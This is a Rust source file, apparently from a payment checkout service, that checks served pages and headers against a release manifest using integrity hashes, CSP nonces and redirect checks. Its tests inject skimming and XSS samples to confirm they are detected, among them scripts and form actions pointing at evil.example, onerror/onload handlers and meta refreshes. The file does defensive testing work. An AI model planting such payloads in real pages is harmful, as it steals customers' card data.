//! Whether a page and its headers are those of this release, and what differs.

use super::fetch::Answer;
use super::manifest::{Entry, Kind, Pages, integrity};
use super::page::{Page, Piece, Tag, read};
use crate::layers;

/// Headers that load or allow what the page does not name.
const FOREIGN: [&str; 8] = [
    "access-control-allow-origin",
    "content-security-policy-report-only",
    "link",
    "report-to",
    "reporting-endpoints",
    "service-worker-allowed",
    "sourcemap",
    "x-sourcemap",
];

/// What was found in order, and what was not.
#[derive(Debug, Default)]
pub struct Report {
    pub same: Vec<String>,
    pub differs: Vec<String>,
}

/// Compares a page with the manifest. `secure`: it came by TLS, from a name that others reach.
pub fn page(manifest: &[Entry], pages: Pages, answer: &Answer, secure: bool) -> Report {
    let mut report = Report::default();
    if answer.status != 200 {
        report.differs.push(format!(
            "status: {} instead of 200{}",
            answer.status,
            answer.header("location").map(|to| format!(", to {to}")).unwrap_or_default()
        ));
        return report;
    }
    let nonce = headers(&mut report, pages, answer, secure);
    let page = read(&String::from_utf8_lossy(&answer.body));
    let known = Known { manifest, pages, nonce };
    for piece in &page.pieces {
        match known.judge(piece) {
            Ok(text) => report.same.push(text),
            Err(text) => report.differs.push(text),
        }
    }
    report.differs.extend(page.foreign.iter().map(|what| format!("page: {what} is no part of this page")));
    if pages != Pages::Bank {
        report.differs.extend(page.leads.iter().map(|to| format!("page: it leads away by itself: {to:?}")));
    }
    report.differs.extend(missing(manifest, pages, &page));
    report
}

/// The nonce of the page's policy.
fn headers(report: &mut Report, pages: Pages, answer: &Answer, secure: bool) -> Option<String> {
    let policy = answer.header("content-security-policy").unwrap_or_default();
    let nonce = policy.split("'nonce-").nth(1).and_then(|rest| rest.split('\'').next()).map(str::to_owned);
    let expected_policy = match pages {
        Pages::Bank => acquirer::bank_policy().to_str().unwrap_or_default().to_owned(),
        Pages::Checkout | Pages::Dashboard => ui::Policy::default().content_security_policy(nonce.as_deref()),
    };
    let mut expected: Vec<(String, String)> = layers::defaults().map(|(name, value)| (name.to_string(), value)).collect();
    expected.retain(|(name, _)| name != "content-security-policy");
    expected.push(("content-security-policy".to_owned(), expected_policy));
    expected.push(("content-type".to_owned(), "text/html; charset=utf-8".to_owned()));
    if secure {
        expected.push(("strict-transport-security".to_owned(), layers::HSTS.to_owned()));
    }
    for (name, value) in &expected {
        let found = answer.headers(name);
        let stricter = name == "referrer-policy" && found == ["no-referrer"];
        match found.as_slice() {
            [one] if one == value || stricter => {}
            [] => report.differs.push(format!("header {name}: missing, instead of {value:?}")),
            found => report.differs.push(format!("header {name}: {found:?} instead of {value:?}")),
        }
    }
    for name in FOREIGN {
        report.differs.extend(answer.header(name).map(|value| format!("header {name}: {value:?} is no part of this page")));
    }
    // To the simulated bank; a real one is elsewhere, and no page with a form goes there by itself.
    if let Some(refresh) = answer.header("refresh").filter(|refresh| !refresh.contains(";url=/bank/")) {
        report.differs.push(format!("header refresh: {refresh:?} leads away by itself"));
    }
    if report.differs.is_empty() {
        report.same.push(format!("{} headers", expected.len()));
    }
    nonce
}

struct Known<'m> {
    manifest: &'m [Entry],
    pages: Pages,
    nonce: Option<String>,
}

impl Known<'_> {
    fn judge(&self, piece: &Piece) -> Result<String, String> {
        let address = piece.get(if piece.tag == Tag::Link { "href" } else { "src" });
        match (piece.tag, address) {
            (Tag::Link, Some(address)) if piece.get("rel") == Some("icon") && is_icon(address) => Ok(format!("{address}: the icon")),
            (Tag::Link, None) => Err(format!("page: a <link> without an address: {:?}", piece.attributes)),
            (Tag::Link | Tag::Script, Some(address)) => self.file(piece, address),
            (Tag::Script | Tag::Style, _) => self.inline(piece),
        }
    }

    fn file(&self, piece: &Piece, address: &str) -> Result<String, String> {
        let entry = self.manifest.iter().find(|entry| entry.pages == self.pages && entry.file.as_deref() == Some(address));
        let entry = entry.ok_or_else(|| format!("{address}: is no file of these pages in this release"))?;
        if piece.tag == Tag::Script && entry.kind != Kind::Script {
            return Err(format!("{address}: is run as a script"));
        }
        match piece.get("integrity") {
            Some(given) if given == entry.integrity => Ok(format!("{address}: {}", entry.reason)),
            given => Err(format!(
                "{address}: integrity {} instead of {:?}",
                given.map_or("missing".to_owned(), |given| format!("{given:?}")),
                entry.integrity
            )),
        }
    }

    fn inline(&self, piece: &Piece) -> Result<String, String> {
        let (name, kind) = if piece.tag == Tag::Style { ("style", Kind::Style) } else { ("script", Kind::Script) };
        let begins: String = piece.text.chars().take(60).collect();
        let data = piece.tag == Tag::Script && piece.get("type") == Some("application/json");
        if data {
            return Ok("data, which no browser runs".to_owned());
        }
        // The bank's style sheet is let in by its hash.
        if self.pages != Pages::Bank && (self.nonce.is_none() || piece.get("nonce") != self.nonce.as_deref()) {
            return Err(format!("inline {name}: without this answer's nonce: {begins:?}"));
        }
        let hash = integrity(piece.text.as_bytes());
        let known = self.manifest.iter().find(|entry| entry.pages == self.pages && entry.kind == kind && entry.integrity == hash);
        match known {
            Some(entry) => Ok(format!("inline {name}: {}", entry.reason)),
            None if kind == Kind::Style && self.pages == Pages::Checkout && checkout::is_brand_style(&piece.text) => {
                Ok("inline style: the merchant's colour".to_owned())
            }
            None if kind == Kind::Script && is_data(&piece.text) => {
                Ok("inline script: data for the application, nothing that acts".to_owned())
            }
            None => Err(format!("inline {name}: {hash} is in no manifest: {begins:?}")),
        }
    }
}

fn is_icon(address: &str) -> bool {
    address == "data:," || assets::asset("favicon.svg").is_some_and(|icon| icon.url == address)
}

/// What the pages' framework writes for its counterpart in the browser: lists of numbers and quoted texts, by these names, and nothing else.
fn is_data(script: &str) -> bool {
    const NAMES: [&str; 5] =
        ["__RESOLVED_RESOURCES", "__SERIALIZED_ERRORS", "__PENDING_RESOURCES", "__RESOURCE_RESOLVERS", "__INCOMPLETE_CHUNKS"];
    let Some(plain) = without_texts(script) else { return false };
    plain.split(';').map(str::trim).filter(|statement| !statement.is_empty()).all(|statement| {
        let Some(rest) = NAMES.iter().find_map(|name| statement.strip_prefix(name)) else { return false };
        rest.chars().all(|c| c.is_ascii_digit() || matches!(c, '=' | '[' | ']' | ',' | ' ' | '"' | ':'))
    })
}

/// The script with every quoted text left empty. None where a quote is not closed.
fn without_texts(script: &str) -> Option<String> {
    let mut plain = String::new();
    let mut chars = script.chars();
    while let Some(c) = chars.next() {
        plain.push(c);
        if c == '"' {
            loop {
                match chars.next()? {
                    '\\' => _ = chars.next()?,
                    '"' => break,
                    _ => {}
                }
            }
            plain.push('"');
        }
    }
    Some(plain)
}

/// The style sheet stands on every page, as a file or written into it: without it somebody else's may stand in its place.
fn missing(manifest: &[Entry], pages: Pages, page: &Page) -> Option<String> {
    let sheet = manifest.iter().find(|entry| entry.pages == pages && entry.kind == Kind::Style)?;
    let there = page.pieces.iter().any(|piece| {
        let linked = sheet.file.is_some() && piece.get("href") == sheet.file.as_deref();
        linked || (piece.tag == Tag::Style && integrity(piece.text.as_bytes()) == sheet.integrity)
    });
    (!there).then(|| format!("page: the style sheet {} is missing", sheet.file.as_deref().unwrap_or(&sheet.integrity)))
}

/// Compares a file as it was received.
pub fn file(entry: &Entry, address: &str, answer: &Answer) -> Result<String, String> {
    let found = integrity(&answer.body);
    if answer.status != 200 {
        return Err(format!("{address}: status {} instead of 200", answer.status));
    }
    if found != entry.integrity {
        return Err(format!("{address}: {found} was received instead of {}", entry.integrity));
    }
    for (name, expected) in [("x-content-type-options", "nosniff"), ("cross-origin-resource-policy", "same-origin")] {
        if answer.header(name) != Some(expected) {
            return Err(format!("{address}: header {name}: {:?} instead of {expected:?}", answer.header(name)));
        }
    }
    Ok(format!("{address}: {found}"))
}

#[cfg(test)]
mod tests {
    use axum::http::{HeaderMap, HeaderName, HeaderValue};
    use proptest::prelude::*;
    use proptest::sample::{Index, select};

    use super::*;

    fn known() -> Vec<Entry> {
        let entry = |kind, file: Option<&str>, text: &str, reason| Entry {
            pages: Pages::Checkout,
            kind,
            file: file.map(str::to_owned),
            integrity: integrity(text.as_bytes()),
            reason,
        };
        vec![
            entry(Kind::Style, Some("/assets/checkout-1.css"), "a{}", "The look."),
            entry(Kind::Script, Some("/assets/checkout-1.js"), "run()", "Runs."),
            entry(Kind::Script, None, "follow()", "Follows."),
        ]
    }

    fn good() -> String {
        let [sheet, script, _] = &known()[..] else { panic!("three") };
        format!(
            "<!DOCTYPE html><html><head><link rel=\"stylesheet\" href=\"/assets/checkout-1.css\" integrity=\"{}\">\
             <style nonce=\"n1\">:root{{--brand:#7a2e1f;--on-brand:#fff}}</style>\
             <script type=\"module\" src=\"/assets/checkout-1.js\" integrity=\"{}\" nonce=\"n1\"></script></head>\
             <body><form method=\"post\"><input name=\"number\"></form><script nonce=\"n1\">follow()</script></body></html>",
            sheet.integrity, script.integrity
        )
    }

    fn answer(body: &str) -> Answer {
        let mut headers: HeaderMap = layers::defaults().map(|(name, value)| (name, HeaderValue::try_from(value).unwrap())).collect();
        let policy = ui::Policy::default().content_security_policy(Some("n1"));
        headers.insert("content-security-policy", HeaderValue::try_from(policy).unwrap());
        headers.insert("content-type", HeaderValue::from_static("text/html; charset=utf-8"));
        Answer { status: 200, headers, body: body.as_bytes().to_vec() }
    }

    fn differs(answer: &Answer) -> Vec<String> {
        page(&known(), Pages::Checkout, answer, false).differs
    }

    #[test]
    fn a_page_as_it_was_made_differs_in_nothing() {
        let report = page(&known(), Pages::Checkout, &answer(&good()), false);
        assert_eq!(report.differs, Vec::<String>::new());
        assert_eq!(report.same.len(), 5, "{:?}", report.same);
        // The whole style sheet may as well be written into the page.
        let inlined = good().replace("<style", "<style nonce=\"n1\">a{}</style><style");
        assert_eq!(differs(&answer(&inlined)), Vec::<String>::new());
    }

    #[test]
    fn what_was_changed_on_its_way_is_named() {
        for (from, to, named) in [
            ("follow()", "follow();steal()", "is in no manifest"),
            ("<script nonce=\"n1\">follow()", "<script>follow()", "without this answer's nonce"),
            ("checkout-1.js", "checkout-2.js", "is no file of these pages"),
            ("integrity=\"sha384-", "integrity=\"sha384-A", "integrity"),
            ("</body>", "<script src=\"https://evil.example/x.js\"></script></body>", "evil.example"),
            ("#fff}", "#fff}input{background:red}", "inline style"),
            ("<form method=\"post\">", "<form method=\"post\" action=\"https://evil.example\">", "<form action="),
            ("<head>", "<head><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">", "leads away"),
            ("rel=\"stylesheet\" href=\"/assets/checkout-1.css\"", "rel=\"icon\" href=\"data:,\"", "style sheet"),
        ] {
            let changed = good().replacen(from, to, 1);
            assert_ne!(changed, good(), "{from}");
            let differs = differs(&answer(&changed));
            assert!(differs.iter().any(|line| line.contains(named)), "{to}: {differs:?}");
        }
        for (name, value) in [
            ("referrer-policy", "unsafe-url"),
            ("link", "</x>; rel=preload"),
            ("refresh", "1;url=https://evil.example"),
            ("cache-control", "public"),
        ] {
            let mut changed = answer(&good());
            changed.headers.insert(HeaderName::from_static(name), HeaderValue::from_static(value));
            assert!(differs(&changed).iter().any(|line| line.starts_with(&format!("header {name}"))), "{name}");
        }
        let mut twice = answer(&good());
        twice.headers.append("content-security-policy", HeaderValue::from_static("default-src *"));
        assert!(differs(&twice)[0].starts_with("header content-security-policy"));
        assert_eq!(differs(&Answer { status: 503, ..answer(&good()) }), ["status: 503 instead of 200"]);
        // Over TLS elsewhere than on this machine, browsers must be told to stay with it.
        let plain = page(&known(), Pages::Checkout, &answer(&good()), true);
        assert_eq!(plain.differs, ["header strict-transport-security: missing, instead of \"max-age=31536000\""]);
    }

    #[test]
    fn a_file_is_compared_byte_by_byte() {
        let received = |body: &str| {
            let mut received = answer(body);
            received.headers.insert("content-type", HeaderValue::from_static("text/javascript"));
            file(&known()[1], "/assets/checkout-1.js", &received)
        };
        assert!(received("run()").is_ok());
        assert!(received("run();").unwrap_err().contains("was received instead of"));
    }

    #[test]
    fn data_of_the_framework_is_told_from_a_script() {
        for data in [
            "__RESOLVED_RESOURCES=[];__SERIALIZED_ERRORS=[];__PENDING_RESOURCES=[0,1,];__RESOURCE_RESOLVERS=[];",
            r#"__RESOLVED_RESOURCES[0] = "{\"a\":\"x;alert(1)\"}";"#,
            "__INCOMPLETE_CHUNKS=[];",
            "",
        ] {
            assert!(is_data(data), "{data}");
        }
        for script in [
            "alert(1)",
            "__RESOLVED_RESOURCES=[alert(1)]",
            "__RESOLVED_RESOURCES[0] = \"a\"+alert(1);",
            r#"__RESOLVED_RESOURCES[0] = "a\\";alert(1);"";"#,
            "__INCOMPLETE_CHUNKS=[];fetch``",
            "__RESOLVED_RESOURCES=[\"",
            "__RESOLVED_RESOURCES[0] = '\"';alert(1);'\"'",
        ] {
            assert!(!is_data(script), "{script}");
        }
    }

    const FOREIGN_PIECES: &[&str] = &[
        "<script>steal()</script>",
        "<script nonce=\"n1\">steal()</script>",
        "<script src=/assets/checkout-1.css></script>",
        "<script src=//evil.example></script>",
        "<style>input{}</style>",
        "<style nonce=n1>@import '//evil.example'</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<iframe src=/></iframe>",
        "<base href=//evil.example>",
        "<img src=x onerror=steal()>",
        "<svg onload=steal()>",
        "<form action=https://evil.example>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<object data=/x>",
    ];

    /// What the framework's data is made of, and what it is not.
    const SCRIPT: &[&str] = &[
        "__RESOLVED_RESOURCES",
        "__PENDING_RESOURCES",
        "__INCOMPLETE_CHUNKS",
        "[0]",
        "=",
        "=[",
        "]",
        ";",
        ",",
        "\"",
        "\\\"",
        "\\",
        "\"a\"",
        "'",
        "`",
        "//",
        "/*",
        "*/",
        "(",
        ")",
        "alert(1)",
        "+",
        "${",
        "}",
        "\n",
        "\u{2028}",
        "\u{feff}",
        "é",
        "9999999999999999999999",
        "<!--",
        "x",
    ];

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(1_000))]

        #[test]
        fn what_is_added_anywhere_between_the_tags_of_a_page_is_told(piece in select(FOREIGN_PIECES), at in any::<Index>()) {
            let page = good();
            // What stands in a script that is a file no browser reads.
            let read = |end: &usize| !page[..*end].rsplit('<').next().is_some_and(|tag| tag.starts_with("script type"));
            let ends: Vec<usize> = page.match_indices('>').map(|(at, _)| at + 1).filter(read).collect();
            let (before, after) = page.split_at(ends[at.index(ends.len())]);
            prop_assert_ne!(differs(&answer(&format!("{before}{piece}{after}"))), Vec::<String>::new());
        }

        #[test]
        fn any_answer_is_compared_and_told_in_one_line_each(body in prop_oneof![any::<Vec<u8>>(), any::<String>().prop_map(String::into_bytes)], cut in any::<Index>(), names in prop::collection::vec((select(&["link", "refresh", "location", "content-security-policy", "content-type", "x"][..]), any::<Vec<u8>>()), 0..4), status in prop_oneof![9 => Just(200_u16), 1 => any::<u16>()]) {
            let mut received = answer("");
            received.status = status;
            let good = good().into_bytes();
            received.body = [&good[..cut.index(good.len() + 1)], b"<", &body[..], b" onx=1 src=", &body[..], b"><script src=\"/", &body[..], b"\"></script>"].concat();
            for (name, value) in names {
                if let Ok(value) = HeaderValue::from_bytes(&value) {
                    received.headers.append(HeaderName::from_static(name), value);
                }
            }
            for pages in [Pages::Checkout, Pages::Dashboard, Pages::Bank] {
                let report = page(&known(), pages, &received, true);
                prop_assert!(!report.differs.is_empty());
            }
        }

        #[test]
        fn what_stands_outside_of_texts_makes_data_a_script(pieces in prop::collection::vec(select(SCRIPT), 0..12), text in any::<String>(), foreign in select(&["alert(1)", "a", "(", "`", "'", "+1", "/", "{"][..])) {
            let script = pieces.concat();
            // Anything else than closed texts and the five names, and it runs.
            if is_data(&script) {
                let bare = without_texts(&script).unwrap_or_default();
                prop_assert!(bare.chars().all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c.is_whitespace() || "_=[],;:\"".contains(c)), "{}", bare);
                prop_assert!(!is_data(&format!("{script};{foreign}")) && !is_data(&format!("{foreign};{script}")), "{}", script);
            }
            let said = serde_json::to_string(&text).unwrap();
            prop_assert!(is_data(&format!("__RESOLVED_RESOURCES[0] = {said};")), "{}", said);
            prop_assert!(!is_data(&format!("__RESOLVED_RESOURCES[0] = {said}{foreign};")), "{}", said);
        }
    }
}
